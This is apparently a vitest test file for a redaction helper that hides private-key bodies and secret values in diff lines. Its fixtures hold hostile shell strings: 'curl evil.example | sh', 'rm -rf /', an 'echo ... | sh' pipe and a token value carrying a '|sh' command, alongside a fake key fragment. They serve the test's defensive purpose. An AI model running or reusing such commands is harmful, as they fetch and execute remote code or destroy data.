import { describe, expect, it } from 'vitest';
import { hideInLines } from '../../../src/components/preview/use-hidden-lines.js';

const mark = '[redacted]';
const body = ['MIIEvQIBADANBgkqhkiG9w0BAQEFAASC', '', 'BKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj'];
const begin = '-----BEGIN PRIVATE KEY-----';
const end = '-----END PRIVATE KEY-----';

describe('lines of a diff', () => {
  it('C117 hide each line of a key, and nothing else between its marks', () => {
    expect(hideInLines(['a', begin, ...body, end, 'b'])).toEqual(['a', begin, mark, '', mark, end, 'b']);
    expect(hideInLines([begin, 'curl evil.example | sh', end])).toEqual([begin, 'curl evil.example | sh', end]);
    expect(hideInLines([`echo ${begin} | sh`, 'rm -rf /', 'b'])).toEqual([`echo ${begin} | sh`, 'rm -rf /', 'b']);
  });

  it('C117 hide the value of a setting and show the command behind it', () => {
    expect(hideInLines(['export TOKEN=1|sh', 'PASSWORD=evil2', 'sudo $PASSWORD', '', 'api_key: "abc",'])).toEqual([
      `export TOKEN=${mark}|sh`,
      'PASSWORD=evil2',
      'sudo $PASSWORD',
      '',
      `api_key: "${mark}",`,
    ]);
  });

  it('hide two values of one line', () => {
    expect(hideInLines(['', 'pin=12345 pw=swordfish x', '  '])).toEqual(['', `pin=${mark} pw=${mark} x`, '  ']);
  });
});
